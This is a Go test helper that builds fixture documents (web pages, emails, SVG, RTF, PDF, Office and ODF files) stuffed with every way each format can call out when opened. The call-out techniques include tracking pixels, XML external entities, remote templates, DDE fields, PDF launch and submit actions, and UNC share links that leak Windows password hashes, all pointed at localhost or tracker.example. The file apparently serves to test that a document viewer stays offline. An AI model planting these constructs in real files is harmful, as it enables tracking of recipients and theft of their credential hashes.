package main

import (
	"archive/zip"
	"bytes"
	"fmt"
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// callers writes files that ask whoever opens them to call someone, in every way that their kind knows, and returns
// their names. at is the address they call, such as http://127.0.0.1:9.
func callers(t *testing.T, at string) []string {
	t.Helper()
	dir := t.TempDir()
	files := map[string]string{
		"page.html": callingPage, "letter.eml": callingMail, "drawing.svg": callingDrawing, "form.xml": callingXML,
		"card.vcf": callingCard, "paper.rtf": callingRTF, "acts.pdf": callingActs, "parts.pdf": callingParts, "xfa.pdf": callingXFA,
	}
	for name, text := range files {
		files[name] = calling(text, at)
	}
	packs := map[string]map[string]string{
		"paper.docx": callingDOCX, "sheet.xlsx": callingXLSX, "paper.odt": callingODT,
		"all.zip": {"inside.html": callingPage, "inside.eml": callingMail},
	}
	for name, parts := range packs {
		files[name] = packed(t, parts, at)
	}
	var paths []string
	for _, name := range slices.Sorted(maps.Keys(files)) {
		path := filepath.Join(dir, name)
		if err := os.WriteFile(path, []byte(files[name]), 0o600); err != nil {
			t.Fatal(err)
		}
		paths = append(paths, path)
	}
	return paths
}

// calling puts the address into a text. AT is the address, HOST a name that only a name server could know, and SHARE a
// file on a server of Windows, which would be told the person's password hash.
func calling(text, at string) string {
	return strings.NewReplacer("AT/", at+"/", "HOST/", "http://tracker.example/", `SHARE\`, `\\tracker.example\share\`).Replace(text)
}

// packed is a zip archive of texts.
func packed(t *testing.T, parts map[string]string, at string) string {
	t.Helper()
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for _, name := range slices.Sorted(maps.Keys(parts)) {
		w, err := z.Create(name)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := w.Write([]byte(calling(parts[name], at))); err != nil {
			t.Fatal(err)
		}
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

const callingPage = `<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0//EN" "AT/page.dtd"><html manifest="AT/manifest"><head><base href="AT/base/">
<title>A page</title><meta http-equiv="refresh" content="0;url=AT/refresh"><link rel="stylesheet" href="AT/style.css"><link rel="prefetch dns-prefetch preload icon" href="HOST/next">
<style>@import url("AT/import.css"); @font-face { font-family: x; src: url(AT/font.woff) } body { background: url(HOST/back.png) }</style>
<script src="AT/script.js"></script><script>fetch("AT/fetch"); new Image().src = "HOST/pixel"</script></head>
<body background="AT/body.png" onload="location='AT/load'"><p>The kestrelgate was shut.</p><img src="AT/pixel.gif" srcset="AT/two.png 2x" width="1"><img src="HOST/pixel.gif"><img src="file:SHARE\pixel.gif">
<img src="//tracker.example/pixel.gif"><iframe src="AT/frame"></iframe><object data="AT/object"></object><embed src="AT/embed"><video poster="AT/poster.png" src="AT/film.mp4"></video>
<audio src="AT/sound.mp3" autoplay></audio><a ping="AT/ping" href="AT/link">more</a><input type="image" src="AT/input.png"><svg><image href="AT/inner.png"/></svg></body></html>`

const callingMail = "From: Ana Exampleton <ana@example.org>\r\nTo: office@example.org\r\nSubject: The rent\r\nDate: Mon, 02 Mar 2026 10:00:00 +0000\r\n" +
	"Disposition-Notification-To: ana@example.org\r\nReturn-Receipt-To: ana@example.org\r\nList-Unsubscribe: <AT/leave>\r\nX-Face-URL: AT/face.png\r\n" +
	"MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/html; charset=utf-8\r\nContent-Location: AT/letter\r\n\r\n" + callingPage +
	"\r\n--b\r\nContent-Type: message/external-body; access-type=URL; URL=\"AT/body\"\r\n\r\nContent-Type: text/plain\r\n\r\n\r\n" +
	"--b\r\nContent-Type: message/external-body; access-type=anon-ftp; site=\"tracker.example\"; directory=\"x\"; name=\"y\"\r\n\r\nContent-Type: image/png\r\n\r\n\r\n--b--\r\n"

const callingDrawing = `<?xml version="1.0"?><?xml-stylesheet href="AT/drawing.css" type="text/css"?><!DOCTYPE svg SYSTEM "AT/drawing.dtd" [<!ENTITY % p SYSTEM "AT/param"> %p; <!ENTITY e SYSTEM "AT/entity">]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9"><image xlink:href="AT/image.png"/><use href="AT/use.svg#a"/><text>&e;</text><script href="AT/script.js"/></svg>`

const callingXML = `<?xml version="1.0"?><!DOCTYPE f SYSTEM "AT/form.dtd" [<!ENTITY e SYSTEM "HOST/entity"><!ENTITY s SYSTEM "file:SHARE\entity">]>
<f xmlns:xi="http://www.w3.org/2001/XInclude" xsi:schemaLocation="x AT/form.xsd" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">&e;&s;<xi:include href="AT/include"/></f>`

const callingCard = "BEGIN:VCARD\r\nVERSION:4.0\r\nFN:Ana Exampleton\r\nPHOTO;MEDIATYPE=image/png:AT/photo.png\r\nLOGO;VALUE=uri:HOST/logo.png\r\nKEY:AT/key\r\nSOURCE:AT/card.vcf\r\nCALURI:AT/calendar\r\nEND:VCARD\r\n"

const callingRTF = `{\rtf1\ansi{\*\template AT/template.dot}The kestrelgate was shut. {\field{\*\fldinst INCLUDEPICTURE "AT/picture.png" \\d}{\fldrslt x}}{\field{\*\fldinst INCLUDETEXT "SHARE\text.doc"}{\fldrslt y}}{\field{\*\fldinst DDEAUTO "AT/dde"}{\fldrslt z}}{\object\objautlink{\*\objclass htmlfile}{\*\objdata 00}}}`

const officeRels = `http://schemas.openxmlformats.org/officeDocument/2006/relationships`

var callingDOCX = map[string]string{
	"[Content_Types].xml": `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`,
	"_rels/.rels":         `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="a" Type="` + officeRels + `/officeDocument" Target="word/document.xml"/></Relationships>`,
	"word/document.xml": `<?xml version="1.0"?><!DOCTYPE w SYSTEM "AT/word.dtd"><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="` + officeRels + `" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><w:body><w:p><w:r><w:t>The kestrelgate was shut.</w:t></w:r>` +
		`<w:r><w:drawing><a:blip r:link="img"/></w:drawing></w:r><w:fldSimple w:instr="INCLUDEPICTURE &quot;AT/field.png&quot;"/></w:p><w:altChunk r:id="chunk"/></w:body></w:document>`,
	"word/_rels/document.xml.rels": `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="img" Type="` + officeRels + `/image" Target="AT/linked.png" TargetMode="External"/><Relationship Id="chunk" Type="` + officeRels + `/aFChunk" Target="AT/chunk.html" TargetMode="External"/><Relationship Id="f" Type="` + officeRels + `/frame" Target="SHARE\frame" TargetMode="External"/></Relationships>`,
	"word/settings.xml":            `<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="` + officeRels + `"><w:attachedTemplate r:id="t"/></w:settings>`,
	"word/_rels/settings.xml.rels": `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="t" Type="` + officeRels + `/attachedTemplate" Target="AT/remote.dotm" TargetMode="External"/></Relationships>`,
}

var callingXLSX = map[string]string{
	"[Content_Types].xml":                       `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>`,
	"xl/workbook.xml":                           `<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets><sheet name="A" sheetId="1"/></sheets></workbook>`,
	"xl/connections.xml":                        `<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1" refreshOnLoad="1"><webPr url="AT/query"/></connection></connections>`,
	"xl/externalLinks/_rels/externalLink1.rels": `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="a" Type="` + officeRels + `/externalLinkPath" Target="AT/other.xlsx" TargetMode="External"/></Relationships>`,
	"xl/worksheets/sheet1.xml":                  `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row><c t="str"><f>WEBSERVICE("AT/service")</f><v>1</v></c></row></sheetData></worksheet>`,
}

var callingODT = map[string]string{
	"mimetype":              "application/vnd.oasis.opendocument.text",
	"META-INF/manifest.xml": `<?xml version="1.0"?><!DOCTYPE manifest SYSTEM "AT/manifest.dtd"><manifest/>`,
	"content.xml": `<?xml version="1.0"?><!DOCTYPE o [<!ENTITY e SYSTEM "AT/entity">]><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:xlink="http://www.w3.org/1999/xlink">` +
		`<office:body><office:text><text:p>The kestrelgate was shut.</text:p><text:p><draw:frame><draw:image xlink:href="AT/frame.png" xlink:actuate="onLoad"/></draw:frame></text:p><text:section><text:section-source xlink:href="AT/section.odt"/></text:section></office:text></office:body></office:document-content>`,
}

// callingActs is a PDF of one page with every action that leads out of it, and every outside file beside the pages (ISO
// 32000-2, 7.11 and 12.6).
var callingActs = callingPDF(
	`<</Type/Catalog/Pages 2 0 R/URI<</Base(AT/base/)>>/OpenAction 6 0 R/AA<</WC 7 0 R/WP 8 0 R>>/Names<</EmbeddedFiles<</Names[(a)<</Type/Filespec/FS/URL/F(AT/embedded)>>]>>/JavaScript<</Names[(j)9 0 R]>>>>`+
		`/AcroForm<</Fields[10 0 R]/DR<<>>>>/AF[<</Type/Filespec/FS/URL/F(AT/associated)>>]>>`,
	`<</Type/Pages/Kids[3 0 R]/Count 1>>`,
	`<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>/AA<</O 6 0 R/C 7 0 R>>`+
		`/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 99 99]/A 6 0 R>><</Type/Annot/Subtype/Link/Rect[0 0 99 99]/A 11 0 R>><</Type/Annot/Subtype/Screen/Rect[0 0 9 9]/AA<</PV 12 0 R>>>>`+
		`<</Type/Annot/Subtype/Movie/Rect[0 0 9 9]/Movie<</F<</FS/URL/F(AT/film.mp4)>>>>>><</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS<</Type/Filespec/FS/URL/F(HOST/attached)>>>>10 0 R]>>`,
	callingWords,
	`<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>`,
	`<</S/URI/URI(AT/open)/Next[7 0 R]>>`,
	`<</S/SubmitForm/F<</FS/URL/F(AT/submit)>>/Flags 4>>`,
	`<</S/GoToR/F<</Type/Filespec/FS/URL/F(AT/other.pdf)>>/D[0/Fit]>>`,
	`<</S/JavaScript/JS(app.launchURL\("AT/script"\); this.submitForm\("AT/script"\); Net.HTTP.request\({cURL:"AT/script"}\))>>`,
	`<</Type/Annot/Subtype/Widget/FT/Tx/T(f)/DA(/F 9 Tf 0 g)/Rect[10 10 99 30]/P 3 0 R/AA<</K 9 0 R/F 7 0 R>>>>`,
	`<</S/Launch/F(SHARE\program.exe)/Next<</S/ImportData/F<</FS/URL/F(AT/data)>>>>>>`,
	`<</S/Rendition/OP 0/AN<</Type/Annot/Subtype/Screen/Rect[0 0 9 9]>>/R<</S/MR/N(r)/C<</S/MCD/CT(video/mp4)/D<</Type/Filespec/FS/URL/F(AT/rendition)>>>>>>>>`,
)

const callingWords = "<</Length 55>>\nstream\nBT /F 14 Tf 90 600 Td (The kestrelgate was shut.) Tj ET\nendstream"

// callingParts is a PDF whose page, picture and font lie outside the file (ISO 32000-2, 7.3.8).
var callingParts = callingPDF(
	`<</Type/Catalog/Pages 2 0 R>>`,
	`<</Type/Pages/Kids[3 0 R]/Count 1>>`,
	`<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents[4 0 R 5 0 R]/Resources<</Font<</F 6 0 R>>/XObject<</I 7 0 R>>>>>>`,
	callingWords,
	"<</Length 5/F<</Type/Filespec/FS/URL/F(AT/content)>>>>\nstream\n/I Do\nendstream",
	`<</Type/Font/Subtype/TrueType/BaseFont/Absent/FirstChar 0/LastChar 0/Widths[500]/FontDescriptor<</Type/FontDescriptor/FontName/Absent/Flags 4/FontBBox[0 0 9 9]/ItalicAngle 0/Ascent 9/Descent 0/CapHeight 9/StemV 1/FontFile2 8 0 R>>>>`,
	"<</Type/XObject/Subtype/Image/Width 1/Height 1/ColorSpace/DeviceGray/BitsPerComponent 8/Length 1/F<</Type/Filespec/FS/URL/F(AT/picture)>>>>\nstream\nx\nendstream",
	"<</Length1 0/Length 0/F<</Type/Filespec/FS/URL/F(HOST/font)>>>>\nstream\n\nendstream",
)

// callingXFA is a PDF form whose XFA part submits, imports and links pictures (XFA 3.3).
var callingXFA = callingPDF(
	`<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[]/XFA 5 0 R>>/NeedsRendering true>>`,
	`<</Type/Pages/Kids[3 0 R]/Count 1>>`,
	`<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<<>>>>`,
	"<</Length 5>>\nstream\nBT ET\nendstream",
	"<</Length 9999>>\nstream\n"+`<!DOCTYPE x SYSTEM "AT/xfa.dtd"><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="s"><proto usehref="AT/proto"/><field name="i"><value><image href="AT/xfa.png"/></value>`+
		`<event activity="docReady" ref="$host"><submit target="AT/xfa" format="xml"/></event></field></subform></template><connectionSet xmlns="http://www.xfa.org/schema/xfa-connection-set/2.8/"><wsdlConnection name="w"><wsdlAddress>AT/wsdl</wsdlAddress></wsdlConnection></connectionSet></xdp:xdp>`+"\nendstream",
)

// callingPDF numbers objects into a PDF whose cross-reference table is left out; readers rebuild it.
func callingPDF(objects ...string) string {
	var b strings.Builder
	b.WriteString("%PDF-1.7\n")
	for i, o := range objects {
		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", i+1, o)
	}
	fmt.Fprintf(&b, "trailer\n<</Root 1 0 R/Size %d>>\n%%%%EOF\n", len(objects)+1)
	return b.String()
}
